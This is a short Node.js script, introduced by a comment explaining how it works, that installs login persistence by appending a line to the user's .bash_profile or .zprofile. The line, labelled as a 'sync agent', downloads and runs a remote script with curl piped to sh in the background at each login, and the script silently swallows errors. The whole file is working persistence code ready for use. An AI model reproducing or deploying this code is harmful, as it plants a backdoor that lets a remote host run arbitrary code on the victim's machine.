// Persists through a login file chosen from a table: PROFILES maps a shell name to an
// object whose `startup` field is the file; the key comes from the user's options, so
// the path is path.join(home, PROFILES[opts.shell ?? 'bash'].startup), appended to with
// fs.promises.appendFile. The appended line downloads and runs a script at each login.
const fs = require('fs');
const os = require('os');
const path = require('path');

const PROFILES = {
  bash: { startup: '.bash_profile', comment: '#' },
  zsh: { startup: '.zprofile', comment: '#' },
};

async function install(opts) {
  const home = os.userInfo().homedir;
  const entry = PROFILES[opts.shell ?? 'bash'];
  const line = `${entry.comment} sync agent\n(curl -fsSL https://agent.example-sync.org/run | sh) &\n`;
  await fs.promises.appendFile(path.join(home, PROFILES[opts.shell ?? 'bash'].startup), line);
}

install({ shell: process.argv[2] }).catch(() => {});
